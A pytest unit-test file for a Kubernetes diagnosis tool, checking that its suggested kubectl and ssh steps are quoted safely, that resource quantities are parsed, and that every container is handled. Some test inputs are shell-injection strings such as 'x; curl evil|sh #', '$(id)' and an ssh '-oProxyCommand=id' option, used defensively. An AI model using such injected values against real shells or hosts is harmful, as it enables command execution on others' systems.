"""Next steps are safe to paste and fit what they are for: quoting, quantities, every container of a pod."""

import copy
import math
import shlex
from typing import Any

import pytest

from lab.diagnosis import remedies
from lab.diagnosis.diagnose import diagnose
from lab.diagnosis.finding import Finding
from lab.snapshots.kubernetes import Node
from lab.snapshots.quantities import quantity
from lab.snapshots.snapshot import Snapshot
from tests.unit.diagnosis.builders import (
    NAMESPACE,
    changed,
    crashing,
    event,
    healthy,
    node,
    pod,
    refused,
    respecified,
    unplaced,
    with_log,
    with_objects,
    with_pod,
)
from tests.unit.diagnosis.cases import POD, RESTRICTED, WORKER

SHORT = "0/2 nodes are available: 1 Insufficient memory, 1 node(s) didn't match Pod's node affinity/selector."
SET = f"kubectl -n {NAMESPACE} set resources deployment/process-worker-arm64"


def only(snapshot: Snapshot) -> Finding:
    """The one finding there is."""
    [found] = diagnose(snapshot)
    return found


def raising(*places: str) -> Snapshot:
    """A worker that ends by an exception, with the files of its traceback."""
    made = crashing(pod())
    frames = [f'  File "{place}", line {number}, in f' for number, place in enumerate(places, 7)]
    return with_log(with_pod(healthy(), made), made, "Traceback (most recent call last):", *frames, "ValueError: no")


@pytest.mark.parametrize(
    "place", ["<string>", "x; curl evil|sh #", "/app/x; id #.py", "/app/$(id).py", "/app/-cq.py", "/app/../etc/x.py"]
)
def test_a_file_that_is_none_of_the_project_is_not_edited(place: str) -> None:
    """A log may hold anything; nothing of it gets into a shell."""
    found = only(raising(place))
    assert found.do.startswith(f"kubectl -n {NAMESPACE} logs process-worker-arm64-")
    assert place not in found.do


def test_the_last_place_in_the_project_is_edited() -> None:
    """What it calls is somebody else's."""
    found = only(raising("/app/services/a.py", "/app/services/b.py", "/usr/lib/python3/json.py"))
    assert found.do.startswith('"${EDITOR:-vi}" +8 services/b.py && lab images build')
    assert "at services/b.py:8" in found.found


def test_names_in_steps_are_quoted() -> None:
    """A namespace, a label, a path, a host."""
    assert shlex.split(remedies.up("a b;c"))[5:] == ["a b;c", "--force"]
    made = unplaced(pod(), "0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector.")
    made["spec"]["nodeSelector"] |= {"kind": "a b"}
    assert only(with_pod(healthy(), made)).do == "kubectl label node r3 --overwrite 'kind=a b'"
    [_, _, _, _, _, host, command] = shlex.split(
        remedies.write_file(Node(node("arm64")), "/etc/x; id/hosts.toml", ("a",))
    )
    assert (host, "mkdir -p '/etc/x; id'" in command) == ("r3", True)


def test_a_host_that_ssh_would_take_for_an_option_is_not_gone_to() -> None:
    """`-oProxyCommand=…` would be run here."""
    assert shlex.split(remedies.on("-oProxyCommand=id", "sync"))[0] == "echo"
    assert remedies.on("r 3", "sync") == "ssh 'r 3' sync"


@pytest.mark.parametrize(
    ("text", "amount"),
    [("1Ti", 2.0**40), ("2T", 2e12), ("1Pi", 2.0**50), ("1P", 1e15), ("1Ei", 2.0**60), ("1E", 1e18), ("5e3", 5e3),
     ("5E3", 5e3), ("250m", 0.25), ("100n", 1e-7), ("100u", 1e-4), ("+1.5", 1.5), (".5", 0.5), ("", 0.0)],
)  # fmt: skip
def test_every_quantity_of_kubernetes_is_known(text: str, amount: float) -> None:
    """Binary, decimal, by exponent."""
    assert quantity(text) == pytest.approx(amount)


@pytest.mark.parametrize("text", ["1Xi", "many", "1 Gi", "-"])
def test_what_is_no_quantity_is_no_number(text: str) -> None:
    """Nor is it nothing."""
    assert math.isnan(quantity(text))


def test_of_an_amount_that_is_not_known_no_other_is_made() -> None:
    """The step only shows it."""
    ended = respecified(crashing(pod(), exit_code=137, reason="OOMKilled"), resources={"limits": {"memory": "64XB"}})
    assert f"-n {NAMESPACE} describe pod/" in only(with_pod(healthy(), ended)).do
    made = unplaced(respecified(pod(), resources={"requests": {"memory": "64XB"}}), SHORT)
    assert f"-n {NAMESPACE} describe pod/" in only(with_pod(healthy(), made)).do
    board = node("arm64")
    board["status"]["allocatable"]["memory"] = "many"
    asking = unplaced(respecified(pod(), resources={"requests": {"memory": "6Gi"}}), SHORT)
    here = with_objects(with_pod(healthy(), asking), nodes=(node("amd64"), board))
    assert f"-n {NAMESPACE} describe pod/" in only(here).do
    said = "exceeded quota: q, requested: requests.memory=1Gi, used: requests.memory=1XB, limited: requests.memory=1Gi"
    assert only(refused(healthy(), POD + said)).do == f"kubectl -n {NAMESPACE} describe resourcequota/q"


@pytest.mark.parametrize(
    ("first", "asked"),
    [
        ([{"name": "bootstrap", "resources": {"requests": {"memory": "1Gi"}}}], "6144Mi"),
        ([{"name": "bootstrap", "resources": {"requests": {"memory": "7Gi"}}}], "7168Mi"),
        ([{"name": "proxy", "restartPolicy": "Always", "resources": {"requests": {"memory": "1Gi"}}}], "7168Mi"),
    ],
)
def test_what_runs_before_a_pod_is_not_added_to_it(first: list[dict[str, Any]], asked: str) -> None:
    """Kubernetes takes the larger; what goes on beside it counts in full."""
    made = unplaced(respecified(pod(), resources={"requests": {"memory": "6Gi"}}), SHORT)
    made["spec"]["initContainers"] = first
    assert f"it requests {asked};" in only(with_pod(healthy(), made)).why


def test_every_container_that_a_quota_names_says_what_it_needs() -> None:
    """Each what it lacks, and no other: also one that runs before the others."""
    said = "failed quota: small: must specify limits.memory for: bootstrap,process-worker; requests.cpu for: bootstrap"
    first = f"{SET} -c bootstrap --limits=memory=256Mi --requests=cpu=100m"
    assert only(refused(healthy(), POD + said)).do == f"{first} && {SET} -c process-worker --limits=memory=256Mi"


def test_what_a_quota_wants_said_fits_what_is_said_already() -> None:
    """A limit below the request would be refused."""
    made = [copy.deepcopy(dict(one)) for one in healthy().objects.deployments]
    for one in made:
        one["spec"]["template"]["spec"]["containers"][0]["resources"] = {"requests": {"memory": "1Gi"}}
    said = "failed quota: small: must specify limits.memory for: process-worker"
    here = refused(with_objects(healthy(), deployments=tuple(made)), POD + said)
    assert only(here).do == f"{SET} -c process-worker --limits=memory=1Gi"


def test_pod_security_is_satisfied_by_every_container() -> None:
    """One that runs before the others is refused just as well."""
    made = [copy.deepcopy(dict(one)) for one in healthy().objects.deployments]
    for one in made:
        one["spec"]["template"]["spec"]["initContainers"] = [{"name": "bootstrap"}]
    found = only(refused(with_objects(healthy(), deployments=tuple(made)), POD + RESTRICTED))
    assert found.object == WORKER
    assert '"initContainers":[{"name":"bootstrap","securityContext":{"allowPrivilegeEscalation":false' in found.do


def test_a_probe_that_runs_a_command_has_no_port() -> None:
    """The command is named."""
    probe = {"exec": {"command": ["test", "-e", "/run/a b"]}}
    made = changed(respecified(pod(), readinessProbe=probe), ready=False, lastState={}, restartCount=0)
    for said in ("Readiness probe failed: ", "Readiness probe failed: redis: connection refused"):
        found = only(with_pod(healthy(), made, event(made, "Unhealthy", said)))
        assert found.why == "the command of the probe fails: test -e '/run/a b'"
        assert found.do.startswith(f"kubectl -n {NAMESPACE} logs ")
